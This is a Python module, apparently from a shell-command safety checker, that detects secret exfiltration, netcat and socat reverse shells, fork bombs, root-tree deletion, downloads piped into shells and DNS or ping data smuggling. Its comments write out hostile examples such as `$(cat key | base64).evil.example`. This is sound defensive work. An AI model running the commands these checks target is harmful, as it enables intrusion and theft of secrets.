"""Network: secrets sent out, reverse shells, downloaded or unseen code run."""

from __future__ import annotations

import re
from collections.abc import Iterator

from safety import exfil, interp
from safety.checks.base import Hit, _hit, only
from safety.commands import (
    interpreter_code,
    is_interpreter,
    is_shell,
    reads_code_from_stdin,
    rm_options,
    shell_command_string,
)
from safety.facts import DYN, DYN_SET, Invocation, Word
from safety.paths import Place, classify


@only(exfil.UPLOADERS)
def uploads_secret(inv: Invocation) -> Iterator[Hit]:
    yield from exfil.upload_hits(inv)


@only(exfil.REMOTE_COPIERS)
def copies_secret_away(inv: Invocation) -> Iterator[Hit]:
    yield from exfil.copy_hits(inv)


@only(exfil.PY_SERVERS)
def serves_secrets(inv: Invocation) -> Iterator[Hit]:
    yield from exfil.serve_hits(inv)


@only(exfil.SINKS)
def sends_secret_as_login(inv: Invocation) -> Iterator[Hit]:
    yield from exfil.auth_hits(inv)


@only(exfil.SINKS)
def feeds_secret_to_network(inv: Invocation) -> Iterator[Hit]:
    yield from exfil.pipe_hits(inv)


def _net_exec_flag(inv: Invocation) -> Word | None:
    args = inv.args
    for i, word in enumerate(args):
        text = word.text
        if text in ("--exec", "--sh-exec", "--lua-exec") or text.startswith(
            ("--exec=", "--sh-exec=")
        ):
            return word
        if text.startswith("-") and not text.startswith("--") and "e" in text[1:]:
            return word
        if (
            text.startswith("-")
            and not text.startswith("--")
            and text.endswith("c")
            and i + 1 < len(args)
        ) and re.search(r"(?:^|/)(?:ba|z|da|k)?sh\b|python|perl|cmd", args[i + 1].text):
            return word
    return None


@only("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "cryptcat")
def nc_exec(inv: Invocation) -> Iterator[Hit]:
    if inv.name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "cryptcat"):
        word = _net_exec_flag(inv)
        if word is not None:
            yield _hit(word)


@only("socat")
def socat_exec(inv: Invocation) -> Iterator[Hit]:
    if inv.name != "socat":
        return
    lows = [a.text.lower() for a in inv.args]
    runs = any(t.startswith(("exec:", "system:")) or "exec:" in t for t in lows)
    net = any(t.startswith(("tcp", "udp", "openssl", "ssl", "sctp")) for t in lows)
    if runs and net:
        yield inv.span, "socat"


def code_reverse_shell(inv: Invocation) -> Iterator[Hit]:
    code = interpreter_code(inv)
    texts = []
    if code is not None:
        texts.append((code.span, code.text))
    if (
        inv.stdin_text is not None
        and (is_interpreter(inv.name) or is_shell(inv.name))
        and reads_code_from_stdin(inv)
    ):
        texts.append((inv.span, inv.stdin_text))
    for span, text in texts:
        if interp.looks_like_reverse_shell(text):
            yield span, inv.name


def code_fork_bomb(inv: Invocation) -> Iterator[Hit]:
    code = interpreter_code(inv)
    if code is not None and interp.looks_like_fork_bomb(code.text):
        yield code.span, inv.name


def code_deletes_tree(inv: Invocation) -> Iterator[Hit]:
    code = interpreter_code(inv)
    if code is None:
        return
    for path in interp.deleted_trees(code.text):
        if classify(path) in (Place.ROOT, Place.HOME, Place.SYSTEM_TOP):
            yield code.span, path


def pipe_shell_download(inv: Invocation) -> Iterator[Hit]:
    # "file": `bash < <(curl ...)`, the download reaching stdin through a process substitution.
    if inv.stdin_kind in ("pipe", "file") and inv.stdin_download and reads_code_from_stdin(inv):
        yield inv.span, inv.name


def pipe_shell_unseen(inv: Invocation) -> Iterator[Hit]:
    if (
        inv.stdin_kind == "pipe"
        and not inv.stdin_download
        and inv.stdin_text is None
        and reads_code_from_stdin(inv)
    ):
        yield inv.span, inv.name


def decoded_into_shell(inv: Invocation) -> Iterator[Hit]:
    if inv.stdin_decoded and reads_code_from_stdin(inv):
        yield inv.span, inv.name


_RUNNERS = frozenset({"eval", "source", ".", "exec"})


def subst_download(inv: Invocation) -> Iterator[Hit]:
    name = inv.name
    if inv.argv and inv.argv[0].subst_download:
        yield _hit(inv.argv[0])  # `$(curl -s x.example)`: the download is the command itself
        return
    if not (name in _RUNNERS or is_shell(name) or is_interpreter(name)):
        return
    for word in inv.args:
        if word.subst_download:
            yield _hit(word)
            return


def unseen_eval(inv: Invocation) -> Iterator[Hit]:
    name = inv.name
    if name == "eval" and any(w.from_subst or w.dynamic for w in inv.args):
        yield inv.span, "eval"
    elif name in ("source", ".") and inv.args and inv.args[0].text == "/dev/fd/63":
        yield inv.span, name
    elif is_shell(name):
        code = shell_command_string(inv)
        if code is not None and code.text.strip(DYN + DYN_SET + " ") == "":
            yield _hit(code)


def dynamic_command(inv: Invocation) -> Iterator[Hit]:
    if inv.argv and inv.argv[0].dynamic:
        yield _hit(inv.argv[0])


def dynamic_destructive(inv: Invocation) -> Iterator[Hit]:
    if not inv.argv or not inv.argv[0].dynamic:
        return
    opts = rm_options(inv.args)
    if opts.has("r", "f"):
        for word in opts.operands:
            if classify(word.text, inv.cwd) in (
                Place.ROOT,
                Place.HOME,
                Place.SYSTEM_TOP,
                Place.DEVICE,
            ):
                yield _hit(word)


_DNS_TOOLS = frozenset({"dig", "nslookup", "host", "drill", "kdig", "delv", "resolvectl", "getent"})
# A run-time value used as a label under some domain: `$(cat key | base64).evil.example`.
_LABEL = re.compile(f"[{DYN}{DYN_SET}][^.\\s/]*\\.[A-Za-z0-9-]+\\.")


_PINGS = frozenset({"ping", "ping6", "hping3", "nping"})


@only(_DNS_TOOLS | _PINGS)
def dns_carries_data(inv: Invocation) -> Iterator[Hit]:
    """A DNS query whose name is built from command output: the data rides out in the query.
    A ping whose padding pattern (-p) is a credential carries it in every packet."""
    texts = [w.text for w in inv.args]
    for i, word in enumerate(inv.args):
        if inv.name in _PINGS:
            after_p = i > 0 and texts[i - 1] in ("-p", "--data", "-d", "-E", "--file")
            if word.subst_secret or (after_p and word.from_subst):
                yield _hit(word)
        elif word.subst_secret or (word.from_subst and _LABEL.search(word.text)):
            yield _hit(word)
